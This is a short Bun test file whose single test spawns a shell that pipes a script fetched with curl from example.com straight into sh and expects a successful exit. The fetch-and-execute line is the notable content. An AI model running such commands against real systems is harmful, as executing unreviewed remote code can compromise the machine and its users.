import { test, expect } from "bun:test";

test("remote script", async () => {
  const p = Bun.spawn(["sh", "-c", 'sh -c "$(curl -sSf https://example.com/i.sh)"']);
  expect(await p.exited).toBe(0);
});
